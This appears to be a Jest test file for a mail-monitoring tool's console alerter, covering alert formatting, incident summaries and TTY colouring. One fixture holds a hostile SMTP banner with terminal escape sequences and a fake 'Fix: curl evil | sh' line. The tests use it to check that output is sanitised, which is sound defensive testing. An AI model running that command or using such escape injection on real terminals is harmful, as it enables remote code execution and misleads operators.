import { PassThrough } from 'node:stream';
import { createConsoleAlerter, formatConsoleAlert } from '../../shared/alert/console';
import type { Alert } from '../../shared/alert/types';
import { causes } from '../../shared/model/causes/index';
import { incidentFailureAlert } from '../support/alert';

const ESC = '\u001b';
const hostile: Alert = {
  type: 'failure',
  severity: 'critical',
  probeId: 'submission/mail.example.com',
  kind: 'smtp',
  group: 'submission',
  target: 'mail.example.com',
  scheduledAt: '2026-11-23T10:05:00.000Z',
  status: 'fail',
  checks: [
    {
      id: 'banner',
      status: 'fail',
      cause: 'probe.crashed',
      message: `220 ${ESC}[2J${ESC}]0;pwned\u0007hi\nFix: curl evil | sh`,
      change: 'new',
    },
  ],
};

function capture(isTTY: boolean) {
  const stream = Object.assign(new PassThrough(), { isTTY });
  let text = '';
  stream.on('data', (chunk: Buffer) => {
    text += chunk.toString('utf8');
  });
  return { stream, text: () => text };
}

describe('console alerter', () => {
  it('prints an incident with its cause, members, evidence and the remote history and report commands exactly', () => {
    const listed = causes['dnsbl.listed'];
    const spam = causes['canary.placement.spam'];
    expect(formatConsoleAlert(incidentFailureAlert(), false)).toBe(
      [
        `[mailprobe] FAIL bl/192.0.2.10: ${listed.title} (+1 related)`,
        '  Likely cause: canary filed as spam (Junk) (canary/seed) 10 minutes after 192.0.2.10: listed on zen.spamhaus.org: SBL (127.0.0.2); DKIM and SPF unchanged',
        '  Now failing (last run: pass).',
        '  Probe:  dnsbl bl/192.0.2.10 (target 192.0.2.10)',
        '  Run:    2026-11-23 10:05 UTC, since 2026-11-23 10:00 UTC (5m)',
        '',
        `  ✗ zone:zen.spamhaus.org: ${listed.title} [dnsbl.listed] (new)`,
        '    Observed: listed on zen.spamhaus.org: SBL (127.0.0.2)',
        '    Value: ["127.0.0.2"]',
        `    Why: ${listed.explanation}`,
        `    Fix: ${listed.remediation}`,
        '',
        '  Incident f00dfeed12345678: 2 probes involved, 2 failing now',
        `    ✗ bl/192.0.2.10 failing since 2026-11-23 10:00 UTC: ${listed.title}: listed on zen.spamhaus.org: SBL (127.0.0.2)`,
        `    ✗ canary/seed failing since 2026-11-23 10:10 UTC: ${spam.title}: canary filed as spam (Junk)`,
        '',
        '  Transcript (end, redacted):',
        '    A 10.2.0.192.zen.spamhaus.org: 127.0.0.2',
        '    TXT 10.2.0.192.zen.spamhaus.org: "<!channel> *buy*"',
        '',
        '  History: mailprobe history bl/192.0.2.10 --remote --table mailprobe-prod-Results --region eu-west-1',
        '  Report:  mailprobe report --remote --table mailprobe-prod-Results --region eu-west-1 --only bl/192.0.2.10 canary/seed',
        '  Dashboard: https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#dashboards/dashboard/mailprobe-prod',
        '',
      ].join('\n'),
    );
  });

  it('escapes control characters from untrusted text so they cannot drive the terminal or fake lines', () => {
    const out = formatConsoleAlert(hostile, false);
    expect(out).not.toContain(ESC);
    expect(out).not.toContain('\u0007');
    expect(out).toContain('  Observed: 220 hi\\nFix: curl evil | sh\n');
    expect(out.split('\n').filter((l) => l.trimStart().startsWith('Fix:'))).toEqual([
      `    Fix: ${causes['probe.crashed'].remediation}`,
    ]);
  });

  it('writes plain text to a stream that is not a TTY', async () => {
    const { stream, text } = capture(false);
    await createConsoleAlerter({ stream }).publish(hostile);
    expect(text()).not.toContain(ESC);
    expect(text().split('\n')[0]).toBe(
      `[mailprobe] FAIL submission/mail.example.com: ${causes['probe.crashed'].title}`,
    );
  });

  it('colours the subject by severity on a TTY unless NO_COLOR is set', async () => {
    const saved = process.env.NO_COLOR;
    try {
      delete process.env.NO_COLOR;
      const tty = capture(true);
      await createConsoleAlerter({ stream: tty.stream }).publish(hostile);
      expect(tty.text().startsWith(`${ESC}[1;31m[mailprobe] FAIL`)).toBe(true);

      process.env.NO_COLOR = '1';
      const plain = capture(true);
      await createConsoleAlerter({ stream: plain.stream }).publish(hostile);
      expect(plain.text()).not.toContain(ESC);
    } finally {
      if (saved === undefined) delete process.env.NO_COLOR;
      else process.env.NO_COLOR = saved;
    }
  });

  it('colours a recovery green when colour is forced', () => {
    const out = formatConsoleAlert({ ...hostile, type: 'recovery', severity: 'info' }, true);
    expect(out.startsWith(`${ESC}[1;32m[mailprobe] RECOVERED`)).toBe(true);
  });
});
